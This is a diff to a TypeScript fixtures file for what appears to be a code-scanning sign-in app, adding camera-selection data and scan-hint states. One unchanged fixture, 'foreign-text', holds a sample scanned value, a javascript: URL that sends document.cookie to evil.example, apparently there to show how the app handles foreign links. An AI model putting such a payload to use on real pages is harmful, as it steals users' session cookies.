@@ -1,10 +1,11 @@
-import type { AccountView, ActivityEntry, EndReason, Outline, Problem, Prompt, Screen, SessionView, Settings, ViewState } from "../generated";
+import type { AccountView, ActivityEntry, CameraChoice, EndReason, Outline, Problem, Prompt, Screen, SessionView, Settings, ViewState } from "../generated";
 
 /** A moment that all fixtures share, in Unix seconds; the gallery shifts it to the present. */
 export const FIXTURE_NOW_S = 1_795_000_000;
 
 const settings: Settings = {
   camera: null,
+  mirrored: {},
   start_at_login: false,
   close_to_tray: true,
   notifications: true,
@@ -72,7 +73,12 @@ const prompt: Prompt = {
   problem: null,
 };
 
-const live = { camera: "live", name: "Integrated Camera", width: 640, height: 480, mirrored: true, outline: null, hint: "search" } as const;
+const live = { camera: "live", name: "Integrated Camera", instead_of: null, width: 640, height: 480, mirrored: true, outline: null, hint: "search" } as const;
+const cameras: CameraChoice[] = [
+  { id: "Integrated Camera|1", name: "Integrated Camera", is_there: true },
+  { id: "Rear Camera|2", name: "Rear Camera", is_there: true },
+  { id: "USB camera|3", name: "USB camera", is_there: false },
+];
 const found: Outline = [
   { x: 0.38, y: 0.3 },
   { x: 0.62, y: 0.33 },
@@ -114,13 +120,17 @@ export const fixtures: Record<string, ViewState> = {
   "confirm-account": state({ view: "confirm_account", origin: ada.origin, server_name: ada.server_name, username: "ada", display_name: "Ada Lovelace", working: false, problem: null }, { accounts: [] }),
   "choose-account": state({ view: "choose_account", origin: ada.origin, candidates: ["a1", "a3"] }, { accounts: [ada, { ...ada, id: "a3", username: "countess", display_name: "Countess of Lovelace" }] }),
   "scan": scan({}),
-  "scan-found": scan({ camera: { ...live, outline: found, hint: null } }),
-  "scan-asking": scan({ camera: { ...live, outline: found, hint: null }, work: "asking_server" }),
+  "scan-found": scan({ camera: { ...live, outline: found } }),
+  "scan-asking": scan({ camera: { ...live, outline: found }, work: "asking_server" }),
   "scan-starting": scan({ camera: { camera: "starting" } }),
+  "scan-too-far": scan({ camera: { ...live, hint: "move_closer" } }),
+  "scan-too-dark": scan({ camera: { ...live, hint: "too_dark" } }),
+  "scan-blurred": scan({ camera: { ...live, hint: "hold_still" } }),
+  "scan-other-camera": scan({ camera: { ...live, name: "Rear Camera", instead_of: "USB camera", mirrored: false, outline: found }, cameras: cameras.slice(1) }),
   "scan-off": scan({ camera: { camera: "off" } }),
   "scan-no-camera": scan({ camera: { camera: "failed", problem: problem({ code: "camera_none" }), watching: true } }),
   "scan-camera-busy": scan({ camera: { camera: "failed", problem: problem({ code: "camera_busy" }), watching: false } }),
-  "scan-expired": scan({ problem: problem({ code: "code_expired" }), cameras: [{ id: "c1", name: "Integrated Camera" }, { id: "c2", name: "USB camera" }] }),
+  "scan-expired": scan({ problem: problem({ code: "code_expired" }), cameras }),
   "type-code": state({ view: "type_code", account: "a1", working: false, problem: null }, { accounts: [ada, work] }),
   "type-code-unknown": state({ view: "type_code", account: "a1", working: false, problem: problem({ code: "code_unknown" }) }),
   "foreign-text": state({ view: "foreign_text", kind: "other_scheme", text: "javascript:fetch('https://evil.example/?'+document.cookie)", truncated: false, note: { note: "none" } }),
